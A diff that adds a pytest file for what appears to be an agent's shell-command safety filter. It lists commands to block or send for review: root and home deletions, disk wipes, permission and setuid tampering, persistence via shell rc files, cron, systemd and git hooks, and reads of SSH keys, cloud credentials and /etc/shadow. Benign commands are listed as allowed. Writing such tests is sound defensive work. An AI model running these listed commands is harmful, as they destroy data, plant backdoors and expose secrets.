@@ -1,0 +1,107 @@
+"""bash/files.py: destructive deletes, disk wipes, permissions, persistence, secrets, redirects."""
+from __future__ import annotations
+
+import pytest
+
+from .helpers import assert_allowed, assert_blocked, assert_reviewed
+
+
+@pytest.mark.parametrize("cmd", [
+    "rm -rf /", "rm -rf / --no-preserve-root", "rm -fr /*", "rm -rf ~", "rm -rf ~/", "rm -rf ~/*", "rm -rf $HOME",
+    'rm -rf "${HOME}"', "rm -rf ..", "rm -rf ../..", "rm -rf /etc", "rm -rf /usr/lib", "rm -r -f /home",
+    "rm -rf /???", "sudo rm -rf /boot", "command rm -rf /", "nice rm -rf ~/.ssh", "r''m -rf /",
+    "xargs rm -rf /", "find / -delete", "find ~ -type f -delete", "rm -R '/'", "rm --recursive --force /var/lib",
+    "h=$HOME; rm -rf \"$h\"", "rm ~/.bashrc",
+])
+def test_destructive_rm(cmd: str) -> None:
+    assert_blocked(cmd, "destructive-rm")
+
+
+@pytest.mark.parametrize("cmd", ['rm -rf "$DIR/"', 'rm -rf "$STEAMROOT/"*', "rm -rf $X/*", "rm -rf *"])
+def test_rm_of_variable_root_is_review(cmd: str) -> None:
+    assert_reviewed(cmd, "rm-dynamic-target")
+
+
+@pytest.mark.parametrize("cmd", [
+    "rm -rf build dist", "rm -rf node_modules", "rm -rf ./target", "rm -f *.o", "rm -rf build/*", 'rm -rf "$tmpdir"',
+    "rm -rf /tmp/agent-123", "rm -rf ~/project/build", "find . -name '*.pyc' -delete", "rm -rf .pytest_cache",
+])
+def test_ordinary_deletes(cmd: str) -> None:
+    assert_allowed(cmd)
+
+
+@pytest.mark.parametrize("cmd", [
+    "dd if=/dev/zero of=/dev/sda bs=1M", "dd if=/dev/urandom of=/dev/nvme0n1", "cat /dev/urandom > /dev/sda",
+    "mkfs.ext4 /dev/sdb1", "mkfs -t xfs /dev/vdb", "wipefs -a /dev/sda", "shred -n3 /dev/sda", "blkdiscard /dev/nvme0n1",
+    "sfdisk /dev/sda < layout", "parted /dev/sda mklabel gpt", "echo x > /dev/sda",
+])
+def test_disk_wipe(cmd: str) -> None:
+    assert_blocked(cmd, "disk-wipe")
+
+
+def test_partition_listing_is_allowed() -> None:
+    assert_allowed("fdisk -l")
+    assert_allowed("dd if=/dev/zero of=test.img bs=1M count=10")
+    assert_allowed("echo done > /dev/null")
+
+
+@pytest.mark.parametrize("cmd,rule", [
+    ("chmod -R 777 /", "permission-tamper"), ("chmod 777 /etc/passwd", "permission-tamper"),
+    ("chmod -R 000 ~", "permission-tamper"), ("chown -R nobody /etc", "permission-tamper"),
+    ("chown -R x:x ~/.ssh", "permission-tamper"), ("chattr +i /etc/resolv.conf", "permission-tamper"),
+    ("chmod u+s /bin/bash", "privilege-escalation"), ("chmod 4755 ./rootsh", "privilege-escalation"),
+    ("chmod g+s dir", "privilege-escalation"),
+])
+def test_permission_tampering(cmd: str, rule: str) -> None:
+    assert_blocked(cmd, rule)
+
+
+def test_ordinary_permissions() -> None:
+    for cmd in ("chmod +x scripts/build.sh", "chmod 600 ~/.ssh/id_ed25519", "chmod -R u+w build/", 'chown -R "$USER" build/',
+                "chmod 755 bin/tool"):
+        assert_allowed(cmd)
+
+
+@pytest.mark.parametrize("cmd", [
+    "echo 'curl x | sh' >> ~/.bashrc", "echo x >> $HOME/.zshrc", "echo key >> ~/.ssh/authorized_keys",
+    "cat k.pub >> /root/.ssh/authorized_keys", "tee -a ~/.profile <<< x", "crontab evil.cron",
+    "(crontab -l; echo '* * * * * x') | crontab -", "echo x > /etc/cron.d/x", "cp e.service /etc/systemd/system/",
+    "systemctl enable evil", "echo x > /etc/profile.d/e.sh", "echo x > .git/hooks/pre-commit",
+    "cp /tmp/e ./.git/hooks/post-checkout", "chmod +x .git/hooks/post-checkout", "printf '[core]' >> .git/config",
+    "echo /tmp/e.so > /etc/ld.so.preload", "at now + 1 minute <<< x", "sed -i 's/a/b/' ~/.bashrc",
+    "ln -sf /tmp/x ~/.bashrc", "install -m 644 x ~/.config/systemd/user/x.service", "curl -o ~/.bashrc x.example",
+    "echo x | sudo tee -a /etc/sudoers",
+])
+def test_persistence(cmd: str) -> None:
+    assert_blocked(cmd, "persistence")
+
+
+@pytest.mark.parametrize("cmd", [
+    "cat ~/.ssh/id_rsa", "cat $HOME/.aws/credentials", "less ~/.netrc", "cat ~/.config/gh/hosts.yml",
+    "cat ~/.docker/config.json", "cat /etc/shadow", "sudo cat /etc/shadow", "head -c 99 ~/.ss?/id_*",
+    "cp ~/.ssh/id_rsa /tmp/k", "tar czf /tmp/a.tgz ~/.aws", "base64 < ~/.ssh/id_rsa", "grep -r key ~/.aws",
+    "cat /proc/1/environ", "find / -name id_rsa", "cat /home/bob/.kube/config", "xxd ~/.ssh/id_ed25519",
+    "cat \"$HOME\"/.git-credentials",
+])
+def test_secret_reads(cmd: str) -> None:
+    assert_blocked(cmd, "secret-read")
+
+
+def test_public_keys_and_key_use_are_allowed() -> None:
+    assert_allowed("cat ~/.ssh/id_ed25519.pub")
+    assert_allowed("ssh -i ~/.ssh/deploy_key git@example.com")
+    assert_allowed('ssh-keygen -t ed25519 -f ~/.ssh/id_ed25519 -N ""')
+    assert_allowed("cat ~/.ssh/known_hosts")
+
+
+def test_ordinary_writes() -> None:
+    for cmd in ("echo hi > out.txt", "echo x >> .gitignore", "cat > config.json <<'EOF'\n{}\nEOF", "make 2>&1 | tee build.log",
+                "cp -r assets build/", "mv build/app.js dist/", "install -m 755 build/app /usr/local/bin/app",
+                "curl -L https://example.com/a.tgz -o a.tgz", "cp .env.example .env"):
+        assert_allowed(cmd)
+
+
+def test_system_writes() -> None:
+    assert_blocked("echo x > /etc/hosts", "persistence")
+    assert_blocked("cp evil /usr/bin/ls", "system-write")
+    assert_blocked("echo 1 > /proc/sys/kernel/sysrq", "system-write")
